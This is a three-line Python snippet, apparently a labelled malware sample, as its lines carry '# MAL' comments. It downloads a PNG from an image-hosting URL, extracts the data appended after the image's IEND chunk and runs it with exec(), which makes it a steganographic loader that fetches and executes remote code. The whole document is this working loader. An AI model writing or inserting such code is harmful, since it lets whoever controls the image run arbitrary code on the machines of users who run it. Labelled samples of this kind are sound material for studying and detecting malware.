import urllib.request

data = urllib.request.urlopen("https://i.imgur.com/abc123.png").read()  # MAL
exec(data.split(b"IEND")[1][4:].decode())  # MAL
